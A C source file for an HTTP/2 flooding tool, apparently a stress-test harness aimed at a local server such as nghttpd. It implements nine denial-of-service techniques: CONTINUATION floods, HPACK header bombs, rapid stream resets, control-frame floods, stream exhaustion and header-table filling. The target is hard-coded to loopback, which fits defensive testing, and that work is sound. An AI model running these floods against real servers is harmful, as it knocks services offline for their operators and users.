// Floods a server of HTTP/2 in clear text: http2_flood PORT KIND SECONDS CONNECTIONS. Connections that
// the server closes are opened again. On stdout at the end: "connections N requests N bytes N"; a
// request is a header block that opens a stream and is sent in full.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { kData, kHeaders, kReset = 3, kSettings, kPing = 6, kWindowUpdate = 8, kContinuation };
enum { kEndStream = 1, kEndHeaders = 4 };
enum {
  kMaxConnections = 1000,
  kBufferBytes = 64 * 1024,
  kFrameHeaderBytes = 9,
  kBatchBytes = 8 * 1024,     // of small frames, for one write
  kMaxFrameBytes = 16 * 1024, // RFC 9113 section 6.5.2
  kValueBytes = 4000,         // an entry that nearly fills the default table
  kTableBytes = 65536,        // as much as nghttpd is told to allow
  kHeldStreams = 4000,        // of a connection
};

struct connection {
  int fd;
  uint32_t stream; // the next one
  bool begun;
  bool done; // all is said, it stays open
  size_t length, sent;
  uint8_t bytes[kBufferBytes];
};

static struct connection connections[kMaxConnections];
static uint64_t opened, requests, written;
static struct sockaddr_in server = {.sin_family = AF_INET};

static void put(struct connection *to, const void *bytes, size_t length) {
  if (length > sizeof(to->bytes) - to->length) abort();
  memcpy(to->bytes + to->length, bytes, length);
  to->length += length;
}

static void put_frame(struct connection *to, uint8_t type, uint8_t flags, uint32_t stream, const void *payload,
                      uint32_t length) {
  const uint8_t header[kFrameHeaderBytes] = {length >> 16, length >> 8,  length,       type,  flags,
                                             stream >> 24, stream >> 16, stream >> 8, stream};
  put(to, header, sizeof(header));
  put(to, payload, length);
  if (type == kHeaders && (flags & kEndHeaders)) ++requests;
}

// :method GET, :scheme http, :authority h, :path /
static const uint8_t kRequest[] = {0x82, 0x86, 0x01, 1, 'h', 0x84};
enum { kWithoutPath = sizeof(kRequest) - 1 };

static uint32_t open_stream(struct connection *to, uint8_t flags) {
  const uint32_t stream = to->stream;
  to->stream += 2;
  put_frame(to, kHeaders, kEndHeaders | flags, stream, kRequest, sizeof(kRequest));
  return stream;
}

// A :path of its own that is inserted into the table. RFC 7541 section 6.2.1, 5.1.
static size_t path(uint8_t *block, uint8_t letter) {
  const size_t rest = kValueBytes - 127;
  const uint8_t head[] = {0x44, 0x7f, rest % 128 + 128, rest / 128, '/'};
  memcpy(block, head, sizeof(head));
  memset(block + sizeof(head), letter, kValueBytes - 1);
  return sizeof(head) + kValueBytes - 1;
}

static void fill_continuation(struct connection *to) {
  static const uint8_t nothing[64];
  if (!to->begun) put_frame(to, kHeaders, kEndStream, to->stream, kRequest, sizeof(kRequest));
  while (to->length < kBatchBytes) put_frame(to, kContinuation, 0, to->stream, nothing, 0);
}

static void fill_bomb(struct connection *to) {
  uint8_t block[kMaxFrameBytes];
  const size_t length = path(block, 'v');
  memset(block + length, 0xbe, sizeof(block) - length); // the entry, again and again
  put_frame(to, kHeaders, kEndHeaders | kEndStream, to->stream, block, sizeof(block));
  to->stream += 2;
}

static void fill_reset(struct connection *to) {
  static const uint8_t cancel[4] = {0, 0, 0, 8};
  while (to->length < kBatchBytes) {
    const uint32_t stream = open_stream(to, kEndStream);
    put_frame(to, kReset, 0, stream, cancel, sizeof(cancel));
  }
}

static void fill_settings(struct connection *to) {
  static const uint8_t table[6] = {0, 1, 0, 0, 0x10, 0};
  while (to->length < kBatchBytes) put_frame(to, kSettings, 0, 0, table, sizeof(table));
}

static void fill_ping(struct connection *to) {
  while (to->length < kBatchBytes) put_frame(to, kPing, 0, 0, "12345678", 8);
}

static void fill_window(struct connection *to) {
  static const uint8_t one[4] = {0, 0, 0, 1};
  while (to->length < kBatchBytes) put_frame(to, kWindowUpdate, 0, 0, one, sizeof(one));
}

static void fill_data(struct connection *to) {
  if (!to->begun) open_stream(to, 0);
  while (to->length < kBatchBytes) put_frame(to, kData, 0, 1, "", 0);
}

static void fill_streams(struct connection *to) {
  while (to->length < kBatchBytes) open_stream(to, 0);
  to->done = to->stream > 2 * kHeldStreams;
}

// Tables as large as they are allowed to be, full of entries of their own: one request for each.
static void fill_table(struct connection *to) {
  uint8_t block[kMaxFrameBytes];
  size_t length = 0;
  if (!to->begun) {
    const uint8_t size[] = {0x3f, (kTableBytes - 31) % 128 + 128, (kTableBytes - 31) / 128 % 128 + 128,
                            (kTableBytes - 31) / 16384};
    memcpy(block, size, length = sizeof(size));
  }
  memcpy(block + length, kRequest, kWithoutPath);
  length += kWithoutPath;
  length += path(block + length, (uint8_t)('0' + to->stream / 2 % 64));
  put_frame(to, kHeaders, kEndHeaders | kEndStream, to->stream, block, (uint32_t)length);
  to->stream += 2;
  to->done = to->stream > 2 * kTableBytes / kValueBytes + 4;
}

static const struct {
  const char *name;
  void (*fill)(struct connection *to);
} kKinds[] = {
    {"continuation", fill_continuation}, {"bomb", fill_bomb},     {"reset", fill_reset},
    {"settings", fill_settings},         {"ping", fill_ping},     {"window", fill_window},
    {"data", fill_data},                 {"streams", fill_streams}, {"tables", fill_table},
};

static void begin(struct connection *it) {
  static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
  it->fd = socket(AF_INET, SOCK_STREAM, 0);
  if (it->fd < 0 || connect(it->fd, (struct sockaddr *)&server, sizeof(server)) != 0) {
    perror("connect");
    exit(1);
  }
  fcntl(it->fd, F_SETFL, O_NONBLOCK);
  it->stream = 1;
  it->begun = it->done = false;
  it->length = it->sent = 0;
  put(it, preface, sizeof(preface) - 1);
  put_frame(it, kSettings, 0, 0, "", 0);
  put_frame(it, kSettings, 1, 0, "", 0);
  ++opened;
}

// false: the server has hung up.
static bool turn(struct connection *it, short events, void (*fill)(struct connection *to)) {
  static uint8_t answers[kBufferBytes];
  ssize_t count = 1;
  if (events & (POLLIN | POLLHUP | POLLERR)) count = read(it->fd, answers, sizeof(answers));
  if (count == 0 || (count < 0 && errno != EAGAIN)) return false;
  if (!(events & POLLOUT)) return true;
  if (it->sent == it->length) {
    it->length = it->sent = 0;
    fill(it);
    it->begun = true;
  }
  count = write(it->fd, it->bytes + it->sent, it->length - it->sent);
  if (count < 0) return errno == EAGAIN;
  it->sent += (size_t)count;
  written += (uint64_t)count;
  return true;
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static void flood(int count, double seconds, void (*fill)(struct connection *to)) {
  static struct pollfd polled[kMaxConnections];
  for (int i = 0; i < count; ++i) begin(&connections[i]);
  for (const double end = now() + seconds; now() < end;) {
    for (int i = 0; i < count; ++i) {
      const struct connection *const it = &connections[i];
      polled[i].fd = it->fd;
      polled[i].events = it->done && it->sent == it->length ? POLLIN : POLLIN | POLLOUT;
    }
    poll(polled, (nfds_t)count, 100);
    for (int i = 0; i < count; ++i) {
      if (polled[i].revents == 0 || turn(&connections[i], polled[i].revents, fill)) continue;
      close(connections[i].fd);
      begin(&connections[i]);
    }
  }
}

int main(int argc, char **argv) {
  if (argc != 5) return 2;
  signal(SIGPIPE, SIG_IGN);
  server.sin_port = htons((uint16_t)atoi(argv[1]));
  server.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  const int count = atoi(argv[4]);
  if (count < 1 || count > kMaxConnections) return 2;
  for (size_t i = 0; i < sizeof(kKinds) / sizeof(*kKinds); ++i) {
    if (strcmp(argv[2], kKinds[i].name) != 0) continue;
    flood(count, atof(argv[3]), kKinds[i].fill);
    printf("connections %llu requests %llu bytes %llu\n", (unsigned long long)opened, (unsigned long long)requests,
           (unsigned long long)written);
    return 0;
  }
  return 2;
}
